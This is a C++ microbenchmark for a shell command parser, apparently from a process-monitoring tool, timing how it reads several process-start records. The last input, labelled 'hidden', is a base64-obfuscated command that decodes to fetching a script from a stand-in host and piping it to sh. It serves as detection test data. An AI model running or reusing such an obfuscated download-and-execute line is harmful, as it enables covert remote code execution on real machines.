// What a process start costs until its commands are known.
#include <benchmark/benchmark.h>

#include "shell/commands.h"

namespace {

void read(benchmark::State& state, const char* executable, const char* line, const char* argv) {
  shell::Commands commands;
  const shell::Process process{.executable = executable,
                               .command_line = line,
                               .argv_json = argv,
                               .current_directory = "/",
                               .user = "root",
                               .user_id = "0",
                               .parent_executable = "/usr/lib/systemd/systemd",
                               .parent_command_line = "/sbin/init",
                               .terminal = {},
                               .ancestors = {}};
  for (auto _ : state) {
    commands.read(process);
    benchmark::DoNotOptimize(commands.size());
  }
  state.SetItemsProcessed(state.iterations());
}

BENCHMARK_CAPTURE(read, plain, "/usr/sbin/ip", "ip -j addr show dev eth0", "");
BENCHMARK_CAPTURE(read, plain_argv, "/usr/sbin/ip", "ip -j addr show dev eth0",
                  R"(["ip","-j","addr","show","dev","eth0"])");
BENCHMARK_CAPTURE(read, script, "/usr/bin/python3.11",
                  "/usr/bin/python3 /opt/app/main.py --config /etc/app/config.toml --verbose", "");
BENCHMARK_CAPTURE(read, download, "/usr/bin/curl",
                  "curl -fsS --max-time 10 https://updates.example.com/manifest.json", "");
BENCHMARK_CAPTURE(
    read, one_liner, "/usr/bin/dash",
    "sh -c test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )", "");
BENCHMARK_CAPTURE(read, hidden, "/usr/bin/dash",
                  "sh -c echo Y3VybCBodHRwOi8vMTkyLjAuMi4xL3ggfCBzaA== | base64 -d | sh", "");

}  // namespace
